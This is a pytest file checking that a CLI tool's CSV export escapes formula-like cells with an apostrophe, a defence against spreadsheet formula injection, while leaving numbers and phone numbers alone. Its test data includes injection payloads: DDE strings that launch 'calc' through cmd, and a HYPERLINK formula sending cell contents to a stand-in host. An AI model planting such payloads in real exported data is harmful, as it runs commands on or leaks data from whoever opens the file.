"""CSV for spreadsheets."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest

from clerk_cli.output.csvtext import CSVListWriter
from clerk_cli.output.target import OutputTarget
from clerk_cli.output.view import Column, View, comma, text
from clerk_cli.testing import CommandLine, FakeAPI

VIEW = View(columns=(Column("NAME", "name"),))


def cell_of(text: object, *, raw: bool = False) -> str:
    """The cell that a reader of CSV gets for a value."""
    out = io.StringIO()
    CSVListWriter(VIEW.columns, OutputTarget(out, raw_csv=raw)).add([{"name": text}])
    _, (cell,) = csv.reader(io.StringIO(out.getvalue()))
    return cell


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+SUM(A1)",
    "-A1",
    "+",
    "--1",
    "+-1",
    "-1-1=cmd",
    "+49 30 1234=cmd",
    "-",
    "+1-(2)",
    "+1-(555)1234567",
    "+1-2",
    "+1-2-3",
    "-1-2",
    "+1(2)-3",
    "+(1)2345678",
    "+1 555 1234-",
    "+15551234567x",
    "+1 555 1234 x1=2",
    "++15551234567",
    "+١٥٥٥١٢٣٤٥٦٧",
    "-١",
    "\uff1d1+1",
    "\uff20SUM(1)",
    "\uff0b1+A1",
    "\uff0d1+A1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cell_of(text) == f"'{text}"
    assert cell_of(text, raw=True) == text


@pytest.mark.parametrize(
    ("text", "cell"), [("\t=1", "'\\t=1"), ("\r@x", "'\\r@x"), ("\tx", "'\\tx")]
)
def test_a_leading_tab_or_carriage_return_gets_an_apostrophe(text: str, cell: str) -> None:
    assert cell_of(text) == cell
    assert cell_of(text, raw=True) == cell[1:]


@pytest.mark.parametrize(
    "text",
    [
        "-1", "+1", "-1.5", "+1,234.50", "-.5", "-1e6", "+2E-3", "-15%", "-15 %",
        "+15551234567", "+1 (555) 123-4567", "+49 30 1234", "+44 20.7946.0958", "+1 555 1234 x89",
        "+1-555-123-4567", "+49 (0)30 1234567", "+1(555)123-4567", "+1 555\u2011123\u20114567",
        "Ada", "a=b", "a@example.com", "1+1", "'quoted", "", "x\n=1", " =1", "(555) 123-4567",
    ],
)  # fmt: skip
def test_numbers_phone_numbers_and_other_text_stay(text: str) -> None:
    assert cell_of(text) == text


def test_a_number_stays() -> None:
    assert [cell_of(-5), cell_of(-0.5), cell_of(None)] == ["-5", "-0.5", ""]


@pytest.mark.parametrize("show", [text, str, lambda value: value])
def test_a_dash_in_the_data_differs_from_a_missing_value(show: Callable[[object], str]) -> None:
    out = io.StringIO()
    columns = (Column("NAME", "name", show), Column("OTHER", "other"), Column("LIST", "x", comma))
    CSVListWriter(columns, OutputTarget(out, raw_csv=True)).add([{"name": "-"}])
    assert out.getvalue() == "NAME,OTHER,LIST\n-,,\n"


def test_a_title_is_a_cell_too() -> None:
    out = io.StringIO()
    CSVListWriter((), OutputTarget(out)).add([{"=cmd|x": 1, "ok": "=2"}])
    assert out.getvalue() == "'=CMD|X,OK\n1,'=2\n"


def test_a_list_in_a_cell_is_a_cell_too() -> None:
    out = io.StringIO()
    CSVListWriter((Column("N", "n", comma),), OutputTarget(out)).add([{"n": ["=1", "b"]}])
    assert out.getvalue() == 'N\n"\'=1, b"\n'


@pytest.mark.parametrize("options", [("list",), ("list", "--all"), ("get", "a")])
def test_commands_write_formulas_as_text(
    things: CommandLine, fake_api: FakeAPI, options: tuple[str, ...]
) -> None:
    row = {"id": "a", "name": "=1+1", "made_at": None}
    fake_api.answer([row] if "list" in options else row)
    if "--all" in options:
        fake_api.answer([])
    assert "a,'=1+1," in things("things", *options, "-o", "csv").out


def test_a_setting_leaves_cells_unchanged(things: CommandLine, fake_api: FakeAPI) -> None:
    things.write_profiles("[default]\ncsv.raw = true\n")
    fake_api.answer([{"id": "a", "name": "=1+1"}])
    assert "a,=1+1," in things("things", "list", "-o", "csv").out
